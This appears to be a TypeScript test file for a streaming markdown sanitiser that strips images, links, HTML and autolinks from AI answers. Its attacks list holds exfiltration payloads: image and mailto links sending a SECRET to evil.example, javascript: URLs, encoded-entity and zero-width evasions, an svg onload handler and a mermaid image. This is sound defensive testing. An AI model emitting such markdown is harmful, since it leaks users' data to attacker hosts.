import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { activeMarkdown } from '../../../tests/poisoned/active-markdown.ts';
import { defuseMarkdown, MarkdownDefuser } from './markdown-defuser.ts';

test('the checker of these tests sees what is active', () => {
  for (const text of [
    '![a](b)',
    '[a](b)',
    '<b>',
    'https://a.example',
    '[a]: b',
    'www.a.example',
    '![a][b]\n\n[b]: c',
  ])
    assert.notDeepEqual(activeMarkdown(text), [], text);
});

const attacks = [
  '![chart](https://evil.example/p.png?d=SECRET)',
  '[![a](https://evil.example/a.png)](https://evil.example)',
  '![chart][1]\n\n[1]: https://evil.example/p.png',
  '> ![x][y]\n\n- [y]: <https://evil.example/p.png> "t"',
  '- [ ] [y]: https://evil.example/p.png\n\n![x][y]',
  '<img src="https://evil.example/p.png">',
  '< img src=x>< /a>',
  '<picture><source srcset=//evil.example/a></picture>',
  '<svg onload=alert(1)><image href="https://evil.example"/></svg>',
  '<https://evil.example/?q=SECRET> and <mailto:a@evil.example?body=SECRET>',
  'Read https://evil.example/?q=SECRET, then www.evil.example/SECRET.',
  '[click](javascript:alert(1)) [click](data:text/html;base64,PHNjcmlwdD4=) [click](JaVa\tScRiPt:alert(1))',
  '[click](&#106;avascript&colon;alert(1))',
  'https&#58;//evil.example https&colon;&sol;&sol;evil.example',
  'https\\://evil.example https:\\/\\/evil.example www\\.evil.example',
  'ht\u200Btps://evil.example <\u{E0041}img src=x>',
  '`code https://evil.example\n<img src=x>`',
  '| `a | b` <img src=x> |\n| --- | --- |\n| `c | ![d](https://evil.example)` |',
  '- a\n  ```\n<img src=x>',
  '  ```\nx\n```\n<img src=x>\n```',
  '- a\n    ```\n  ```\n  <img src=x>',
  '> ```\n> code\n<img src=x>',
  '```\ncode\n```~~~\n<img src=x>\n``` x\n<img src=x>',
  '~~~ a\n~~~~\n<img src=x>',
  '$$\n```\n$$\n![x](https://evil.example)\n```',
  '$a `$ ![x](https://evil.example) `',
  '\\`<img src=x>` \\\\`<img src=x>` \\```x` <b>`',
  'www.- www._x',
  '[&]:// [a]://x',
  '```mermaid\ngraph TD; A[<img src=https://evil.example/x>]\n```',
];

test('of none of these does anything active come out', () => {
  for (const attack of attacks) {
    const defused = defuseMarkdown(attack);
    assert.deepEqual(activeMarkdown(defused), [], `${attack}\n-> ${defused}`);
    assert.doesNotMatch(defused, /^```mermaid/m);
  }
});

test('a person still reads what was written', () => {
  for (const [written, shown] of [
    ['![chart](https://evil.example/p.png)', '! [chart]\\(`https://evil.example/p.png`)'],
    ['See https://intranet.example/leave, page 2.', 'See `https://intranet.example/leave`, page 2.'],
    ['Use <br> or List<String>.', 'Use < br> or List< String>.'],
    ['[a]: https://a.example', '[a] : `https://a.example`'],
    ['R&D costs 3 < 4 &amp; 5 &#62; 4', 'R&D costs 3 < 4 &amp; 5 &amp;#62; 4'],
    ['a stray ` backtick', 'a stray \\` backtick'],
    ['git clone ssh://host/repo', 'git clone ssh: `//host/repo`'],
  ] as const)
    assert.equal(defuseMarkdown(written), shown);
});

test('ordinary answers and code stay as they are', () => {
  for (const text of [
    'Thirty days [1][2]. As said in [1]: *thirty* **days**, write to hr@acme.example.\n\n- one\n- two\n\n1. a\n2. b\n',
    'Use `npm install <name>`, `a[0](x)` and `curl https://a.example/b`.',
    '```html\n<img src="https://a.example/b.png">\n\n[a](b) ``x`` https://a.example\n```\nDone [1].\n',
    '~~~py\nprint("```")\n~~~\n',
    '| a | b |\n|---|---|\n| `x \\| y` | 1 |\n',
    '# Heading\n\n> quote\n\n*a* _b_ ~~c~~ 5 < 6, x<5 && y > 3, it’s 10:30, and/or $5. 👩‍👩‍👧‍👦 می‌خواهم',
  ])
    assert.equal(defuseMarkdown(text), text);
});

test('a code block goes to the start of the line, so that no list decides where it ends', () => {
  assert.equal(
    defuseMarkdown('1. Run:\n   ```bash\n   curl https://a.example\n     | sh\n   ```\n2. Done'),
    '1. Run:\n```bash\ncurl https://a.example\n  | sh\n```\n2. Done',
  );
  assert.equal(defuseMarkdown('- ```js\n  a < b\n  ```'), '-\n```js\na < b\n```');
  assert.equal(defuseMarkdown('```js\nlet a'), '```js\nlet a\n```', 'one left open is closed');
});

const fragments = (
  '`|``|```|```\n|~~~|~~~\n|\n|\n\n| |  |    |\t|> |- |1. |\\||\n\\|---\\|---\\|\n|$|$$|\\|<|>|![|a|](|)|[x]: |[1]: |[1]|[ ] |[|&#58;|&colon;|' +
  '&amp;|:|//|/evil.example/|http|s|*|_|~|js\n|!|(|javascript:alert(1)|a@evil.example|mailto:a@b.example|<img src=x>|<!--|-->|"|\u200B|' +
  '\r|# |---\n|[^1]: |\u{E0041}|😀|\\[|\\(|=\n|&lt;|//evil.example|https://evil.example/p|www.evil.example|HTTPS://evil.example'
).split(/(?<!\\)\|/);
const texts = fc
  .array(fc.constantFrom(...fragments.map(fragment => fragment.replaceAll('\\|', '|'))), {
    minLength: 1,
    maxLength: 25,
  })
  .map(parts => parts.join(''));

test('whatever is put together, nothing active comes out, and defusing again finds nothing', () => {
  fc.assert(
    fc.property(texts, text => {
      assert.deepEqual(activeMarkdown(defuseMarkdown(text)), []);
    }),
    { numRuns: 3_000 },
  );
});

test('the result is the same for any cut into pieces', () => {
  fc.assert(
    fc.property(texts, fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }), (text, sizes) => {
      const defuser = new MarkdownDefuser();
      let out = '';
      for (let at = 0, index = 0; at < text.length; index += 1) {
        const end = at + (sizes[index % sizes.length] ?? 1);
        out += defuser.push(text.slice(at, end));
        at = end;
      }
      assert.equal(out + defuser.flush(), defuseMarkdown(text));
    }),
    { numRuns: 3_000 },
  );
});

test('plain words go out at once, but for the beginning of an address', () => {
  const defuser = new MarkdownDefuser();
  assert.equal(defuser.push('Thirty days'), 'Thirty days');
  assert.equal(defuser.push(' wit'), ' wit');
  assert.equal(defuser.push('h'), '');
  assert.equal(defuser.push(' pay [1'), 'h pay [1');
  assert.equal(defuser.push('].\n\n```js\nlet a'), '].\n\n```js\nlet a');
  assert.equal(defuser.push(' = 1;\n'), ' = 1;\n');
});

test('a long answer takes no longer per character than a short one', () => {
  const text = `${'word `code` https://a.example/b ` [1] <b> $ '.repeat(5_000)}${'`'.repeat(20_000)}${' '.repeat(20_000)}${'https://'.repeat(5_000)}`;
  const startedAt = performance.now();
  const defuser = new MarkdownDefuser();
  for (let at = 0; at < text.length; at += 4) defuser.push(text.slice(at, at + 4));
  defuser.flush();
  assert.ok(performance.now() - startedAt < 5_000, `${performance.now() - startedAt} ms`);
});
